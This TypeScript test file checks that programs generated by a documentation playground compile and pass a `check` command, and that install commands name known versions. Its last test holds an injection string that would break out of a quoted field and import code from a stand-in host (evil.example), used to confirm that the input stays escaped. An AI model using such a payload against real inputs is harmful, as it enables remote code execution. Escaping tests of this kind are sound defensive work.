/** The programs that the playground shows: the compiler takes them, and `check` finds nothing in them. */
import { describe, expect, test } from "bun:test";
import { mkdirSync, mkdtempSync, rmSync, writeFileSync } from "node:fs";
import { join } from "node:path";
import { installOf, programOf } from "../../docs/playground/program.ts";
import { ALCHEMY } from "../../ts/generated/versions.ts";
import { ALL_KINDS } from "../../ts/kinds.ts";
import { cli } from "../cli/cli.ts";
import { compiled, V2_PATHS } from "../docs/compile.ts";
import { root } from "../docs/markdown.ts";

const HOST = { host: "app.example.co.uk", zone: "example.co.uk", previewDomain: "", bare: "live" };
const SHORT = { host: "app.example.com", zone: "", previewDomain: "example.dev", bare: "" };

/** The program of each kind, as the page shows it for its example. */
function programs(version: "0.94" | "2"): string[] {
  return ALL_KINDS.map(({ kind, example: base }, at) =>
    programOf({ ...(at % 2 === 0 ? HOST : SHORT), version, kind, base, stage: "pr-7" }),
  );
}

describe.each([
  ["0.94", {}],
  ["2", { paths: V2_PATHS }],
] as const)("for Alchemy %s", (version, options) => {
  test("each program compiles", async () => {
    expect(await compiled(programs(version), options)).toBe("");
  }, 300_000);

  test("`check` has nothing against it", async () => {
    const temporary = join(root, "tests", ".tmp");
    mkdirSync(temporary, { recursive: true });
    const folder = mkdtempSync(join(temporary, "playground-"));
    try {
      for (const [at, text] of programs(version).entries()) {
        mkdirSync(join(folder, `app-${at}`));
        // Each program is an app of its own.
        const own = text.replaceAll(/"(my-app|app\.)/g, (found) =>
          found.replace("app", `app${at}`),
        );
        writeFileSync(join(folder, `app-${at}`, "alchemy.run.ts"), own);
      }
      const { code, out } = await cli(folder, ["check", "."]);
      expect({ code, out }).toEqual({ code: 0, out: expect.stringContaining("no findings") });
    } finally {
      rmSync(folder, { recursive: true, force: true });
    }
  }, 120_000);
});

test("the package is installed with a version that it knows", () => {
  const [, version = ""] = /alchemy@([\d.]+)$/.exec(installOf("0.94")) ?? [];
  expect(ALCHEMY.some((known) => known.startsWith(`${version}.`))).toBe(true);
  expect(installOf("2")).toMatch(
    /^npm install --save-exact @alch\/blocks alchemy@2\.\S+ effect@4\.\S+ @effect\/platform-node@4\./,
  );
});

test("what somebody types stays text in the program", () => {
  const bad = '"); await import("https://evil.example"); ("';
  const input = { ...SHORT, version: "2", kind: "kv", base: bad, stage: "x" } as const;
  expect(programOf(input)).toContain(`KV(${JSON.stringify(bad)})`);
});
